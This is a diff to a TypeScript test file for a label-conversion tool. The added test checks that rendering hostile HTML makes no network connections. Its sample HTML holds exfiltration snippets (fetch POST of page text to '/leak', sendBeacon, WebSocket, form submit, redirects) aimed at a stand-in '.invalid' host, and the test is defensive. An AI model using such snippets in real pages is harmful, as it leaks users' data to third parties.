@@ -1,9 +1,10 @@
 import { execFile } from 'node:child_process'
-import { readFile, writeFile } from 'node:fs/promises'
+import { chmod, readFile, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
-import { afterAll, describe, expect, it } from 'vitest'
+import { afterAll, afterEach, describe, expect, it, vi } from 'vitest'
 import { convert } from '../../../src/compose/convertCommand.ts'
 import { decodeFile } from '../../../src/emulator/decodeCommand.ts'
+import { findChromium } from '../../../src/label/chromium/findChromium.ts'
 import { isBlack, sameDots } from '../../../src/model/dots.ts'
 import type { LabelSize } from '../../../src/model/labelSize.ts'
 import { allLabelSizes, labelSizes } from '../../../src/model/labelSize.ts'
@@ -14,6 +15,7 @@ import type { ConvertOptions } from '../../../src/shell/cli/cliActions.ts'
 import { openInput } from '../../../src/shell/cli/readInput.ts'
 import { faultSentence } from '../../../src/words/faultText.ts'
 import { root } from '../../architecture/imports.ts'
+import { testHost, unwrap } from '../../support/chromium.ts'
 import { dotsOfPng } from '../../support/pngDots.ts'
 import type { SamplePage } from '../../support/samplePdf.ts'
 import { samplePdf } from '../../support/samplePdf.ts'
@@ -23,6 +25,7 @@ import { testTerminal } from '../../support/testTerminal.ts'
 const never = new AbortController().signal
 const raster = createRaster({ workers: 1 })
 afterAll(() => raster.close())
+afterEach(() => vi.unstubAllEnvs())
 /** One for all conversions, which end it as they end their own. */
 const shared = () => ({ ...raster, [Symbol.asyncDispose]: async () => {} })
 
@@ -183,6 +186,33 @@ describe('packbench convert', () => {
     expect(result).toMatchObject({ ok: false, fault: { code: 'view.blocked-host' } })
   })
 
+  it('tells nobody what is in a file of HTML, whoever says that its address is his', async () => {
+    await using folder = await tempDir()
+    await using host = await testHost()
+    vi.stubEnv('PACKBENCH_CHROMIUM', await misledBrowser(folder.path, `MAP *.invalid ${host.host}`))
+    const ways = `
+      for (const way of ['', '//packbench.invalid']) {
+        for (const part of ['<img src="W/i">', '<link rel="preconnect" href="W/">', '<link rel="prefetch" href="W/p">',
+          '<link rel="stylesheet" href="W/s">', '<iframe src="W/f"></iframe>', '<object data="W/o"></object>',
+          '<form method="post" action="W/form"><input name="x" value="0901234567"></form>'])
+          document.body.insertAdjacentHTML('beforeend', part.replace('W', way))
+        fetch(way + '/leak', { method: 'POST', mode: 'no-cors', body: document.body.innerText }).catch(() => {})
+        navigator.sendBeacon(way + '/beacon', '0901234567')
+        new WebSocket(new URL(way + '/socket?0901234567', location.href.replace('http', 'ws')))
+        new EventSource(way + '/events')
+      }
+      document.forms[0].submit()`
+    for (const html of [
+      `<!doctype html><p>Nguyễn Văn A 0901234567</p><script>${ways}</script>`,
+      '<!doctype html><img src="logo.png?0901234567">',
+      '<!doctype html><script>location = "/away?0901234567"</script>',
+    ]) {
+      const { result } = await converted(folder.path, Buffer.from(html), { ...base, size: '80x80' })
+      expect(result).toMatchObject({ ok: false, fault: { code: expect.stringMatching(/^view\./) } })
+    }
+    expect(host.connections()).toBe(0)
+  })
+
   it('as a process writes bytes and nothing else to stdout', async () => {
     await using folder = await tempDir()
     const file = join(folder.path, 'label.pdf')
@@ -196,6 +226,19 @@ describe('packbench convert', () => {
     expect(bad).toMatchObject({ status: 2, stdout: Buffer.alloc(0) })
   })
 })
+
+/** The browser on a network that answers for names which nobody has. */
+async function misledBrowser(folder: string, rule: string): Promise<string> {
+  const browser = unwrap(await findChromium({ say: () => {}, mayInstall: false }))
+  const path = join(folder, 'browser')
+  await writeFile(
+    path,
+    `#!/bin/sh\nexec '${browser}' "$@" '--host-resolver-rules=MAP nowhere.invalid ~NOTFOUND,${rule}'\n`,
+  )
+  // The account that it runs as has to get there.
+  for (const each of [path, folder]) await chmod(each, 0o755)
+  return path
+}
 
 async function converted(folder: string, bytes: Uint8Array, options: Omit<ConvertOptions, 'file'>) {
   const file = join(folder, 'document')
